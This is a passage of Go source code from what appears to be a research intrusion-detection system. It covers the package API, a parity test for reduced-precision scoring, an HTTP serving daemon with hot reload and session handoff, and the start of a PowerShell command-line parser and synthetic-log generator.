	ClassifierConfig = tuning.ClassifierConfig
	// ReconsConfig controls reconstruction-based tuning (§IV-A).
	ReconsConfig = tuning.ReconsConfig
	// ContextConfig controls multi-line input construction (§IV-C).
	ContextConfig = tuning.ContextConfig
	// TimedLine is a command line with session context.
	TimedLine = tuning.TimedLine

	// ExperimentConfig controls a full reproduction run (§V).
	ExperimentConfig = core.ExperimentConfig
	// Results carries every reproduced table and figure.
	Results = core.Results
	// UnsupConfig and UnsupResults cover the §III experiment.
	UnsupConfig = core.UnsupConfig
	// UnsupResults reports the §III experiment.
	UnsupResults = core.UnsupResults

	// CommercialIDS is the simulated supervision source.
	CommercialIDS = commercial.IDS
	// SupervisionNoise configures label noise.
	SupervisionNoise = commercial.Noise

	// ScorerConfig selects a serving detection method (the clmdetect /
	// clmserve construction path).
	ScorerConfig = core.ScorerConfig
	// BuiltScorer is a tuned scorer plus the artifacts a bundle persists.
	BuiltScorer = core.BuiltScorer
	// BundleManifest describes a saved scorer bundle.
	BundleManifest = core.BundleManifest
	// LoadedBundle is a bundle restored for serving.
	LoadedBundle = core.LoadedBundle
)

// Scorer is the common contract of all detection methods: one intrusion
// score per command line, higher = more suspicious.
type Scorer = tuning.Scorer

// Label values for Sample.
const (
	Benign    = corpus.Benign
	Intrusion = corpus.Intrusion
)

// DefaultCorpusConfig returns the paper-shaped synthetic-log configuration.
func DefaultCorpusConfig() CorpusConfig { return corpus.DefaultConfig() }

// TableIIIPairs returns the paper's Table III (in-box, out-of-box) example
// pairs with fixed synthetic arguments.
func TableIIIPairs() [][2]string { return corpus.TableIIIPairs() }

// GenerateCorpus synthesizes train and test splits deterministically.
func GenerateCorpus(cfg CorpusConfig) (train, test *Dataset, err error) {
	return corpus.Generate(cfg)
}

// ReadCorpusJSONL loads a dataset written with Dataset.WriteJSONL.
func ReadCorpusJSONL(r io.Reader) (*Dataset, error) { return corpus.ReadJSONL(r) }

// DefaultPipelineConfig returns a single-CPU-scale backbone recipe; use
// BERTBaseConfig for the paper's exact architecture.
func DefaultPipelineConfig() PipelineConfig { return core.DefaultPipelineConfig() }

// BERTBaseConfig is the paper's exact encoder: 12 layers, 12 heads, hidden
// 768, sequence length 1024.
func BERTBaseConfig(vocabSize int) ModelConfig { return model.BERTBase(vocabSize) }

// Build trains the Fig. 1 backbone on raw logged lines: pre-processing,
// BPE tokenizer, and masked-LM pre-training.
func Build(trainLines []string, cfg PipelineConfig) (*Pipeline, error) {
	return core.BuildPipeline(trainLines, cfg)
}

// NewCommercialIDS returns the simulated commercial IDS whose rules cover
// the paper's in-box patterns and miss the Table III blind spots.
func NewCommercialIDS() *CommercialIDS { return commercial.Default() }

// DefaultSupervisionNoise matches the paper's "very noisy" supervision.
func DefaultSupervisionNoise() SupervisionNoise { return commercial.DefaultNoise() }

// DefaultClassifierConfig returns the §IV-B recipe.
func DefaultClassifierConfig() ClassifierConfig { return tuning.DefaultClassifierConfig() }

// DefaultReconsConfig returns the §IV-A recipe (5 alternations, 95% of
// components kept).
func DefaultReconsConfig() ReconsConfig { return tuning.DefaultReconsConfig() }

// DefaultContextConfig returns the §IV-C recipe (3 contiguous lines).
func DefaultContextConfig() ContextConfig { return tuning.DefaultContextConfig() }

// TrainClassifier builds classification-based tuning (§IV-B) on a trained
// pipeline.
func TrainClassifier(p *Pipeline, lines []string, labels []bool, cfg ClassifierConfig) (Scorer, error) {
	return p.NewClassifier(lines, labels, cfg)
}

// TrainMultiLineClassifier builds the multi-line variant (§IV-C): inputs
// are built with BuildContexts and classified with the same head.
func TrainMultiLineClassifier(p *Pipeline, log []TimedLine, labels []bool, ctx ContextConfig, cfg ClassifierConfig) (Scorer, error) {
	contexts := tuning.BuildContexts(log, ctx)
	return p.NewClassifier(contexts, labels, cfg)
}

// TrainReconstruction builds reconstruction-based tuning (§IV-A) on a
// cloned backbone.
func TrainReconstruction(p *Pipeline, lines []string, labels []bool, cfg ReconsConfig) (Scorer, error) {
	return p.NewReconstruction(lines, labels, cfg)
}

// TrainRetrieval builds the retrieval-based method (§IV-D); k = 1
// reproduces the paper's 1NN setting.
func TrainRetrieval(p *Pipeline, lines []string, labels []bool, k int) (Scorer, error) {
	return p.NewRetrieval(lines, labels, k)
}

// BuildMethodScorer tunes one of the four serving methods over a trained
// pipeline and keeps the artifacts a bundle needs — the build half of the
// train-once / serve-many artifact layer.
func BuildMethodScorer(p *Pipeline, cfg ScorerConfig, lines []string, labels []bool) (*BuiltScorer, error) {
	return core.BuildScorerFull(p, cfg, lines, labels)
}

// SaveScorerBundle persists a built scorer as a versioned bundle directory
// (manifest + tokenizer + backbone + method head, per-section checksums).
// An empty version derives a content-addressed one.
func SaveScorerBundle(dir string, p *Pipeline, bs *BuiltScorer, version string) (*BundleManifest, error) {
	return core.SaveBundle(dir, p, bs, version)
}

// LoadScorerBundle restores a bundle for serving: checksums verified, no
// baseline corpus, no tuning, scores byte-identical to the saved scorer.
func LoadScorerBundle(dir string) (*LoadedBundle, error) {
	return core.LoadScorerBundle(dir)
}

// ReplicateScorer fans a built or bundle-loaded scorer out into n
// byte-identical replicas (shared frozen artifacts, per-replica engine) —
// one per shard of a sharded streaming detector.
func ReplicateScorer(s Scorer, n int) ([]Scorer, error) {
	return core.ReplicateScorer(s, n)
}

// BuildContexts converts a timestamp-ordered log into multi-line inputs
// (§IV-C).
func BuildContexts(log []TimedLine, cfg ContextConfig) []string {
	return tuning.BuildContexts(log, cfg)
}

// TinyExperiment and SmallExperiment size the reproduction for one CPU.
func TinyExperiment() ExperimentConfig { return core.TinyExperiment() }

// SmallExperiment is the default reproduction scale of cmd/clmrepro.
func SmallExperiment() ExperimentConfig { return core.SmallExperiment() }

// RunExperiments executes the full §V reproduction: Tables I–III, the F1
// comparison, the preference analysis, and the Fig. 2 statistics.
func RunExperiments(cfg ExperimentConfig) (*Results, error) { return core.Run(cfg) }

// DefaultUnsupConfig sizes the §III unsupervised experiment.
func DefaultUnsupConfig() UnsupConfig { return core.DefaultUnsupConfig() }

// RunUnsupervised executes the §III PCA anomaly-detection experiment.
func RunUnsupervised(cfg UnsupConfig) (*UnsupResults, error) {
	return core.RunUnsupervised(cfg)
}
