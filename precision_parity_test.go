package clmids

import (
	"math"
	"sort"
	"testing"

	"clmids/internal/commercial"
	"clmids/internal/core"
	"clmids/internal/corpus"
	"clmids/internal/metrics"
	"clmids/internal/model"
	"clmids/internal/stream"
	"clmids/internal/tuning"
)

// Corpus-level parity harness for the precision ladder: the acceptance
// gate is that serving at float32 or int8 changes arithmetic, not
// detections — identical session alarms on a replayed corpus at a
// stability-checked threshold, per-line scores within the documented
// deviation bound, and ROC-AUC drift ≤ 0.01 against the float64 scorer.

// ladderTolerance is the documented per-line score deviation bound per
// rung (relative, against the float64 score).
var ladderTolerance = map[model.Precision]float64{
	model.PrecisionFloat32: 1e-3,
	model.PrecisionInt8:    0.15,
}

const ladderAUCDrift = 0.01

// parityFixture: one trained tiny pipeline, a float64 retrieval scorer, the
// training dataset (the cascade harness calibrates against it), and a
// labeled evaluation stream.
func parityFixture(t *testing.T) (tuning.Scorer, *corpus.Dataset, *corpus.Dataset) {
	t.Helper()
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 400
	ccfg.TestLines = 1500
	ccfg.IntrusionRate = 0.1
	train, test, err := corpus.Generate(ccfg)
	if err != nil {
		t.Fatal(err)
	}
	pcfg := core.TinyExperiment().Pipeline
	pcfg.Pretrain.Epochs = 1
	pl, err := core.BuildPipeline(train.Lines(), pcfg)
	if err != nil {
		t.Fatal(err)
	}
	labels, err := commercial.Default().Label(train.Lines(), commercial.DefaultNoise(), 1)
	if err != nil {
		t.Fatal(err)
	}
	// Retrieval scores are average cosine similarities — O(1) magnitudes,
	// so relative-deviation bounds are meaningful. (The tiny PCA method
	// retains nearly every component and its reconstruction errors sit at
	// the float rounding floor, which would make this harness vacuous.)
	scorer, err := core.BuildScorer(pl, core.ScorerConfig{Method: tuning.MethodRetrieval, Seed: 7},
		train.Lines(), labels)
	if err != nil {
		t.Fatal(err)
	}
	return scorer, train, test
}

// atPrecision returns an independent scorer serving the same head at the
// given rung (the float64 original is never mutated).
func atPrecision(t *testing.T, s tuning.Scorer, prec model.Precision) tuning.Scorer {
	t.Helper()
	reps, err := tuning.Replicas(s, 2)
	if err != nil {
		t.Fatal(err)
	}
	r := reps[1]
	if err := tuning.SetScorerPrecision(r, prec); err != nil {
		t.Fatal(err)
	}
	return r
}

// stableThreshold picks an alarm threshold from the float64 session-score
// trace that every rung agrees on by construction: the midpoint of the
// widest gap between adjacent distinct scores in the upper half of the
// distribution. A threshold centered in a wide gap cannot flip on
// sub-tolerance score deviations, so alarm parity tests what the ladder
// promises (same detections) rather than knife-edge rounding.
func stableThreshold(t *testing.T, scores []float64) float64 {
	t.Helper()
	uniq := append([]float64(nil), scores...)
	sort.Float64s(uniq)
	uniq = uniq[:uniquify(uniq)]
	if len(uniq) < 4 {
		t.Fatalf("only %d distinct session scores", len(uniq))
	}
	lo, bestGap, thr := len(uniq)/2, 0.0, 0.0
	for i := lo; i+1 < len(uniq); i++ {
		if gap := uniq[i+1] - uniq[i]; gap > bestGap {
			bestGap = gap
			thr = (uniq[i+1] + uniq[i]) / 2
		}
	}
	return thr
}

func uniquify(sorted []float64) int {
	n := 0
	for i, v := range sorted {
		if i == 0 || v != sorted[n-1] {
			sorted[n] = v
			n++
		}
	}
	return n
}

// runStream replays the dataset through a session detector and returns
// the per-event verdicts.
func runStream(t *testing.T, s tuning.Scorer, ds *corpus.Dataset, sessThr float64) []stream.Verdict {
	t.Helper()
	cfg := stream.DefaultConfig()
	cfg.ContextWindow = 2
	cfg.SessionThreshold = sessThr
	det := stream.NewDetector(s, cfg)
	events := make([]stream.Event, len(ds.Samples))
	for i, smp := range ds.Samples {
		events[i] = stream.Event{User: smp.User, Time: smp.Time, Line: smp.Line}
	}
	verdicts := make([]stream.Verdict, 0, len(events))
	for at := 0; at < len(events); at += 200 {
		end := at + 200
		if end > len(events) {
			end = len(events)
		}
		vs, err := det.Process(events[at:end])
		if err != nil {
			t.Fatal(err)
		}
		verdicts = append(verdicts, vs...)
	}
	return verdicts
}

// scoredItems pairs batch scores with ground truth for AUC.
func scoredItems(t *testing.T, s tuning.Scorer, ds *corpus.Dataset) []metrics.Scored {
	t.Helper()
	scores, err := s.Score(ds.Lines())
	if err != nil {
		t.Fatal(err)
	}
	items := make([]metrics.Scored, len(scores))
	for i, smp := range ds.Samples {
		items[i] = metrics.Scored{
			Line: smp.Line, Score: scores[i],
			TrueIntrusion: smp.Label == corpus.Intrusion,
		}
	}
	return metrics.Dedup(items)
}

func TestPrecisionLadderCorpusParity(t *testing.T) {
	if testing.Short() {
		t.Skip("corpus parity harness builds a pipeline")
	}
	f64Scorer, _, test := parityFixture(t)

	// Pass 1 (float64, thresholds off): learn a stable session threshold.
	probe := runStream(t, atPrecision(t, f64Scorer, model.PrecisionFloat64), test, 0)
	sessScores := make([]float64, len(probe))
	for i, v := range probe {
		sessScores[i] = v.SessionScore
	}
	thr := stableThreshold(t, sessScores)

	want := runStream(t, f64Scorer, test, thr)
	wantAlarms := 0
	for _, v := range want {
		if v.SessionAlert {
			wantAlarms++
		}
	}
	if wantAlarms == 0 {
		t.Fatalf("threshold %g produced no session alarms; harness is vacuous", thr)
	}
	f64AUC, err := metrics.ROCAUC(scoredItems(t, f64Scorer, test))
	if err != nil {
		t.Fatal(err)
	}

	for prec, tol := range ladderTolerance {
		t.Run(string(prec), func(t *testing.T) {
			low := atPrecision(t, f64Scorer, prec)
			got := runStream(t, low, test, thr)
			if len(got) != len(want) {
				t.Fatalf("%d verdicts, want %d", len(got), len(want))
			}
			worst := 0.0
			for i := range got {
				if got[i].SessionAlert != want[i].SessionAlert {
					t.Fatalf("event %d (%q): session alarm %v, float64 says %v",
						i, got[i].Line, got[i].SessionAlert, want[i].SessionAlert)
				}
				d := math.Abs(got[i].LineScore-want[i].LineScore) / (1 + math.Abs(want[i].LineScore))
				if d > worst {
					worst = d
				}
			}
			if worst > tol {
				t.Errorf("worst per-line deviation %g > documented bound %g", worst, tol)
			}

			auc, err := metrics.ROCAUC(scoredItems(t, low, test))
			if err != nil {
				t.Fatal(err)
			}
			if drift := math.Abs(auc - f64AUC); drift > ladderAUCDrift {
				t.Errorf("AUC %g vs float64 %g: drift %g > %g", auc, f64AUC, drift, ladderAUCDrift)
			}
			t.Logf("%s: alarms %d, worst line deviation %.2e, AUC %.4f (f64 %.4f)",
				prec, wantAlarms, worst, auc, f64AUC)
		})
	}
}
