// Package serve is the HTTP surface of one clmserve replica: the daemon
// state machine (live before ready, hot-reloadable after), the NDJSON
// /score streaming handler, session checkpoint/export/import endpoints,
// and the liveness/readiness split. cmd/clmserve wires flags and scorer
// construction around it; the fleet router (internal/fleet) speaks to it
// over the wire; tests spin real replicas from it in-process — one
// implementation for all three, so the stack under test is the stack in
// production.
package serve

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"

	"clmids/internal/core"
	"clmids/internal/stream"
)

// Error-record codes: the machine-readable class of an in-band /score error
// record, so the fleet router — and any client — branches on class instead
// of string-matching messages.
const (
	// CodeOverloaded marks a shed rejection (retry after backoff).
	CodeOverloaded = "overloaded"
	// CodeUnparsable marks a malformed input line (retrying is pointless).
	CodeUnparsable = "unparsable"
	// CodeInternal marks a scoring or transport failure inside the replica
	// (the batch rolled back; retrying the same events is safe).
	CodeInternal = "internal"
)

// ErrorRecord is the in-band NDJSON error line /score emits when a line or
// a batch cannot be scored: Code carries the machine-readable class, Error
// the human-readable detail, Line the 1-based input line for per-line
// (unparsable) records.
type ErrorRecord struct {
	Error string `json:"error"`
	Code  string `json:"code"`
	Line  int    `json:"line,omitempty"`
}

// errCode classifies a Submit error into an error-record code.
func errCode(err error) string {
	if errors.Is(err, stream.ErrOverloaded) {
		return CodeOverloaded
	}
	return CodeInternal
}

// Daemon is the handler-visible serving state: nil service until the
// startup scorer build/load finishes, then the live service plus the
// bundle directory reloads default to. The HTTP surface runs against it
// from before readiness through hot-reloads.
type Daemon struct {
	mu        sync.RWMutex
	svc       *stream.Service
	bundleDir string
	modality  string // the served modality; reloads must match it
	cascade   bool   // -cascade: reload bundles must carry a cascade section

	reloadMu sync.Mutex // serializes /reload + SIGHUP loads
}

// NewDaemon returns a not-yet-ready daemon: /healthz answers 200, scoring
// routes answer 503 until Attach. bundleDir is the default /reload source
// (empty: reloads need an explicit ?bundle=dir); cascade pins reloads to
// bundles carrying a cascade section.
func NewDaemon(bundleDir string, cascade bool) *Daemon {
	return &Daemon{bundleDir: bundleDir, cascade: cascade}
}

// Attach publishes the service and locks in the served modality; the daemon
// is ready from this point, and every reload must carry the same modality.
func (d *Daemon) Attach(svc *stream.Service, served string) {
	d.mu.Lock()
	d.svc = svc
	d.modality = served
	d.mu.Unlock()
}

// Service returns the live service, or false while warming up.
func (d *Daemon) Service() (*stream.Service, bool) {
	d.mu.RLock()
	defer d.mu.RUnlock()
	return d.svc, d.svc != nil
}

// ErrNoBundle distinguishes "nothing to reload from" from load failures.
var ErrNoBundle = errors.New("no bundle directory: started without -bundle; pass ?bundle=dir")

// Reload loads the bundle at dir (default: the active bundle directory)
// and hot-swaps it into every shard, returning the new version. A
// successful explicit reload rebinds the active directory, so SIGHUP and
// parameterless reloads keep refreshing whatever is currently serving.
// The expensive part — deserializing and replicating — happens before the
// swap, so scoring pauses only for the pointer exchange.
func (d *Daemon) Reload(dir string) (string, error) {
	d.reloadMu.Lock()
	defer d.reloadMu.Unlock()

	svc, ok := d.Service()
	if !ok {
		return "", errors.New("not ready yet")
	}
	d.mu.RLock()
	if dir == "" {
		dir = d.bundleDir
	}
	d.mu.RUnlock()
	if dir == "" {
		return "", ErrNoBundle
	}
	lb, err := core.LoadScorerBundle(dir)
	if err != nil {
		return "", err
	}
	d.mu.RLock()
	served := d.modality
	d.mu.RUnlock()
	// A bundle trained for another modality never swaps in: the reload is
	// rejected with the typed mismatch error (HTTP 409) and the old scorer
	// keeps serving untouched.
	if err := lb.CheckModality(served); err != nil {
		return "", err
	}
	next := lb.Scorer
	if d.cascade {
		// A cascade daemon stays a cascade across reloads: a bundle without
		// the cascade section is rejected and the old scorer keeps serving.
		if next, err = core.BuildCascade(lb.Scorer, lb.Cascade); err != nil {
			return "", err
		}
	}
	if err := svc.SwapScorer(next, lb.Manifest.Version); err != nil {
		return "", err
	}
	d.mu.Lock()
	d.bundleDir = dir
	d.mu.Unlock()
	return lb.Manifest.Version, nil
}

// WriteCheckpointFile snapshots the service's sessions to path atomically:
// a full write to path+".tmp", then rename, so readers (and the next
// startup) only ever see complete, checksum-valid snapshots.
func WriteCheckpointFile(svc *stream.Service, path string) error {
	tmp := path + ".tmp"
	f, err := os.Create(tmp)
	if err != nil {
		return err
	}
	if err := svc.SaveSessions(f); err != nil {
		f.Close()
		os.Remove(tmp)
		return err
	}
	if err := f.Close(); err != nil {
		os.Remove(tmp)
		return err
	}
	return os.Rename(tmp, path)
}

// NewHandler wires the replica HTTP surface over the daemon state: /score,
// /stats, /healthz, /readyz, /reload, /sessions/export, /sessions/import.
// chunk caps how many events each streamed Submit carries.
func NewHandler(d *Daemon, chunk int) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/score", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST NDJSON events", http.StatusMethodNotAllowed)
			return
		}
		svc, ok := d.Service()
		if !ok {
			http.Error(w, "scorer loading, not ready", http.StatusServiceUnavailable)
			return
		}
		HandleScore(svc, chunk, w, r)
	})
	mux.HandleFunc("/stats", func(w http.ResponseWriter, r *http.Request) {
		svc, ok := d.Service()
		if !ok {
			http.Error(w, "scorer loading, not ready", http.StatusServiceUnavailable)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		enc.Encode(svc.Stats())
	})
	mux.HandleFunc("/reload", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST /reload?bundle=dir", http.StatusMethodNotAllowed)
			return
		}
		version, err := d.Reload(r.URL.Query().Get("bundle"))
		if err != nil {
			status := http.StatusInternalServerError
			switch {
			case errors.Is(err, ErrNoBundle):
				status = http.StatusBadRequest
			case errors.Is(err, core.ErrModalityMismatch):
				// The bundle is fine, it just serves a different log type
				// than this server: a conflict, not a server fault.
				status = http.StatusConflict
			}
			http.Error(w, err.Error(), status)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]string{"version": version})
	})
	// Per-user session handoff: the fleet router drains users off a live
	// replica with export and lands them (or its own verdict-built shadow
	// windows, when the source is dead) on the failover replica with
	// import. POST on both: export is a read with side-visible intent (a
	// drain step), import mutates.
	mux.HandleFunc("/sessions/export", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST /sessions/export?users=a,b,c", http.StatusMethodNotAllowed)
			return
		}
		svc, ok := d.Service()
		if !ok {
			http.Error(w, "scorer loading, not ready", http.StatusServiceUnavailable)
			return
		}
		var users []string
		if q := r.URL.Query().Get("users"); q != "" {
			users = strings.Split(q, ",")
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		if err := svc.ExportSessions(w, users); err != nil {
			// Headers may be out; the broken body fails the importer's
			// checksum, so a torn export can never half-apply.
			fmt.Fprintf(os.Stderr, "serve: session export: %v\n", err)
		}
	})
	mux.HandleFunc("/sessions/import", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST checkpoint stream to /sessions/import", http.StatusMethodNotAllowed)
			return
		}
		svc, ok := d.Service()
		if !ok {
			http.Error(w, "scorer loading, not ready", http.StatusServiceUnavailable)
			return
		}
		n, err := svc.ImportSessions(r.Body)
		if err != nil {
			status := http.StatusInternalServerError
			switch {
			case errors.Is(err, stream.ErrCheckpointIncompatible):
				// Valid checkpoint, wrong home: session semantics or
				// modality differ — a conflict, not a server fault.
				status = http.StatusConflict
			case errors.Is(err, stream.ErrCheckpointCorrupt):
				status = http.StatusBadRequest
			}
			http.Error(w, err.Error(), status)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]int{"imported": n})
	})
	// Liveness: the process is up; 200 even while the scorer is still
	// building or loading, so supervisors don't restart a warming replica.
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, "ok")
	})
	// Readiness: route traffic here only once the scorer serves. A shard
	// held below native precision by the degrade policy is still ready —
	// degraded capacity beats no capacity — but the state is surfaced so
	// operators and probes can see it.
	mux.HandleFunc("/readyz", func(w http.ResponseWriter, r *http.Request) {
		svc, ok := d.Service()
		if !ok {
			http.Error(w, "loading", http.StatusServiceUnavailable)
			return
		}
		line := "ready"
		if v := svc.ScorerVersion(); v != "" {
			line += " " + v
		}
		if m := svc.Modality(); m != "" {
			line += " modality=" + m
		}
		if n := svc.DegradedShards(); n > 0 {
			line += fmt.Sprintf(" degraded=%d", n)
		}
		fmt.Fprintln(w, line)
	})
	return mux
}

// HandleScore streams NDJSON events through the service in chunks,
// writing NDJSON verdicts back as each chunk completes. Submitting chunk
// by chunk (rather than slurping the body) keeps memory bounded and
// propagates queue backpressure to the client through TCP. A malformed
// line costs that line, not the connection: the stream carries a per-line
// error record (code "unparsable") in its place and keeps scoring; one bad
// producer among the fleet's log shippers must not sever everyone sharing
// the pipe. Overload rejections (shed policy) map to 429 + Retry-After
// while the response is still unstarted, in-band error records (code
// "overloaded" | "internal") afterwards.
func HandleScore(svc *stream.Service, chunk int, w http.ResponseWriter, r *http.Request) {
	HandleScoreFunc(svc.SubmitContext, chunk, w, r)
}

// HandleScoreFunc is HandleScore over any submit function — the fleet
// router serves the identical NDJSON protocol by plugging its routed
// Route in place of a local service's SubmitContext, so clients cannot
// tell a router from a replica.
func HandleScoreFunc(submit func(ctx context.Context, events []stream.Event) ([]stream.Verdict, error), chunk int, w http.ResponseWriter, r *http.Request) {
	if chunk <= 0 {
		chunk = 512
	}
	// Verdicts stream back while the request body is still arriving; on
	// HTTP/1 the server otherwise closes the read side at the first
	// response write. (HTTP/2 is duplex already; the error is ignorable.)
	_ = http.NewResponseController(w).EnableFullDuplex()
	w.Header().Set("Content-Type", "application/x-ndjson")
	out := bufio.NewWriter(w)
	enc := json.NewEncoder(out)
	sc := bufio.NewScanner(r.Body)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)

	events := make([]stream.Event, 0, chunk)
	lineNo, wrote := 0, false
	flush := func() bool {
		if len(events) == 0 {
			return true
		}
		verdicts, err := submit(r.Context(), events)
		events = events[:0]
		if err != nil {
			if !wrote {
				status := http.StatusServiceUnavailable
				if errors.Is(err, stream.ErrOverloaded) {
					status = http.StatusTooManyRequests
					w.Header().Set("Retry-After", "1")
				}
				http.Error(w, err.Error(), status)
				return false
			}
			// Headers are already out; surface the error in-band.
			enc.Encode(ErrorRecord{Error: err.Error(), Code: errCode(err)})
			out.Flush()
			return false
		}
		for i := range verdicts {
			enc.Encode(&verdicts[i])
		}
		out.Flush()
		wrote = wrote || len(verdicts) > 0
		return true
	}

	for sc.Scan() {
		lineNo++
		raw := sc.Bytes()
		if len(raw) == 0 {
			continue
		}
		var ev stream.Event
		if err := json.Unmarshal(raw, &ev); err != nil {
			// Flush pending events first so the error record lands in input
			// order, then keep going: the line is lost, the stream is not.
			if !flush() {
				return
			}
			enc.Encode(ErrorRecord{
				Error: fmt.Sprintf("line %d: %v", lineNo, err),
				Code:  CodeUnparsable,
				Line:  lineNo,
			})
			out.Flush()
			wrote = true
			continue
		}
		if ev.Time == 0 {
			ev.Time = time.Now().Unix()
		}
		if ev.User == "" {
			ev.User = "-"
		}
		events = append(events, ev)
		if len(events) >= chunk {
			if !flush() {
				return
			}
		}
	}
	if err := sc.Err(); err != nil {
		enc.Encode(ErrorRecord{Error: err.Error(), Code: CodeInternal})
		out.Flush()
		return
	}
	flush()
}
