package modality

import (
	"fmt"
	"math/rand"
	"regexp"
	"strings"
)

func init() { Register(psModality{}) }

// PowerShell is the name of the Windows/PowerShell command-line modality.
const PowerShell = "powershell"

// psModality scores Windows/PowerShell command lines: cmdlets, legacy
// console tools, and the LOLBin/encoded-command attack surface. The
// validator is a light top-level grammar (balanced quotes and parens,
// non-empty pipeline segments, a command-shaped head token per segment) —
// deliberately far short of a real PowerShell parser, but enough to reject
// the corrupted records a collector ships and to extract the per-segment
// command units the frequency filter counts.
type psModality struct{}

func (psModality) Name() string { return PowerShell }

var (
	// psCmdRe matches a command head token: cmdlet (Get-Process), console
	// tool (ipconfig, certutil), or path-qualified program
	// (C:\Windows\System32\cmd.exe).
	psCmdRe = regexp.MustCompile(`^[A-Za-z][A-Za-z0-9._\\:/-]*$`)
	// psVarRe matches a variable head token ($out, $env:TEMP).
	psVarRe = regexp.MustCompile(`^\$[A-Za-z_][A-Za-z0-9_]*(:[A-Za-z0-9_]+)?$`)
)

// psBaseName strips a Windows or Unix directory prefix from a command word.
func psBaseName(tok string) string {
	if i := strings.LastIndexAny(tok, `\/`); i >= 0 {
		return tok[i+1:]
	}
	return tok
}

// Parse validates and normalizes one PowerShell line. The canonical form is
// the token stream re-joined with single spaces (quoted spans preserved
// verbatim); command units are the lowercased, path-stripped head token of
// each top-level pipeline/statement segment. PowerShell resolves commands
// case-insensitively, so lowercasing folds Get-Process/get-process into one
// frequency bucket.
func (psModality) Parse(line string) (Record, error) {
	segs, flat, err := psSplit(line)
	if err != nil {
		return Record{}, err
	}
	var occ []string
	for _, seg := range segs {
		name, err := psSegmentCommand(seg)
		if err != nil {
			return Record{}, err
		}
		if name != "" {
			occ = append(occ, name)
		}
	}
	seen := make(map[string]bool, len(occ))
	var distinct []string
	for _, name := range occ {
		if !seen[name] {
			seen[name] = true
			distinct = append(distinct, name)
		}
	}
	return Record{Line: strings.Join(flat, " "), Commands: distinct, Occurrences: occ}, nil
}

// psSplit tokenizes a line (quotes protect whitespace) and splits it into
// top-level segments at | and ; outside quotes and parens. flat is the full
// token stream including the separators, for normalization.
func psSplit(line string) (segs [][]string, flat []string, err error) {
	var (
		cur      strings.Builder
		seg      []string
		inS, inD bool
		depth    int
	)
	flushTok := func() {
		if cur.Len() > 0 {
			seg = append(seg, cur.String())
			flat = append(flat, cur.String())
			cur.Reset()
		}
	}
	flushSeg := func(sep rune) error {
		flushTok()
		if len(seg) == 0 {
			return fmt.Errorf("%w: empty pipeline segment", ErrUnparsable)
		}
		segs = append(segs, seg)
		seg = nil
		if sep != 0 {
			flat = append(flat, string(sep))
		}
		return nil
	}
	for _, c := range line {
		switch {
		case inS:
			cur.WriteRune(c)
			if c == '\'' {
				inS = false
			}
		case inD:
			cur.WriteRune(c)
			if c == '"' {
				inD = false
			}
		case c == '\'':
			inS = true
			cur.WriteRune(c)
		case c == '"':
			inD = true
			cur.WriteRune(c)
		case c == '(':
			depth++
			cur.WriteRune(c)
		case c == ')':
			depth--
			if depth < 0 {
				return nil, nil, fmt.Errorf("%w: unbalanced parenthesis", ErrUnparsable)
			}
			cur.WriteRune(c)
		case (c == '|' || c == ';') && depth == 0:
			if err := flushSeg(c); err != nil {
				return nil, nil, err
			}
		case c == ' ' || c == '\t':
			flushTok()
		default:
			cur.WriteRune(c)
		}
	}
	if inS || inD {
		return nil, nil, fmt.Errorf("%w: unterminated quote", ErrUnparsable)
	}
	if depth != 0 {
		return nil, nil, fmt.Errorf("%w: unbalanced parenthesis", ErrUnparsable)
	}
	if err := flushSeg(0); err != nil {
		return nil, nil, err
	}
	return segs, flat, nil
}

// psSegmentCommand extracts the command unit of one segment ("" for
// assignment-only segments), or rejects a head token that cannot start a
// PowerShell statement.
func psSegmentCommand(seg []string) (string, error) {
	head := seg[0]
	// Call operators: & program, . script.
	if head == "&" || head == "." {
		if len(seg) < 2 {
			return "", fmt.Errorf("%w: dangling call operator", ErrUnparsable)
		}
		head = seg[1]
	}
	if strings.HasPrefix(head, "$") {
		if !psVarRe.MatchString(head) {
			return "", fmt.Errorf("%w: malformed variable %q", ErrUnparsable, head)
		}
		// $x = <command ...> counts the right-hand command; a bare variable
		// reference or literal assignment contributes no unit.
		if len(seg) >= 3 && seg[1] == "=" && psCmdRe.MatchString(seg[2]) {
			return strings.ToLower(psBaseName(seg[2])), nil
		}
		return "", nil
	}
	if strings.HasPrefix(head, "'") || strings.HasPrefix(head, `"`) || strings.HasPrefix(head, "(") {
		// Quoted or parenthesized expression statements are valid PowerShell
		// but carry no command unit the filter can count.
		return "", nil
	}
	if !psCmdRe.MatchString(head) {
		return "", fmt.Errorf("%w: invalid command token %q", ErrUnparsable, head)
	}
	return strings.ToLower(psBaseName(head)), nil
}

// ---------------------------------------------------------------------------
// Generator
// ---------------------------------------------------------------------------

// psNaming produces consistent random Windows identifiers.
type psNaming struct {
	rng *rand.Rand
}

var (
	psDirWords  = []string{"Deploy", "Builds", "Logs", "Reports", "Scripts", "Backup", "Inventory", "Temp", "Staging", "Tools", "Shared", "Archive"}
	psRoots     = []string{`C:\Users\svc_deploy`, `C:\ProgramData`, `D:\Work`, `C:\Users\Public`, `\\fs01.corp.internal\share`}
	psFileStems = []string{"report", "inventory", "deploy", "audit", "metrics", "export", "setup", "rollout", "patch", "summary"}
	psFileExts  = []string{".ps1", ".log", ".csv", ".txt", ".json", ".xml", ".zip", ".docx"}
	psServices  = []string{"Spooler", "WinRM", "BITS", "wuauserv", "Dnscache", "EventLog", "W32Time", "LanmanServer"}
	psProcs     = []string{"notepad", "explorer", "outlook", "chrome", "svchost", "pwsh", "teams", "excel"}
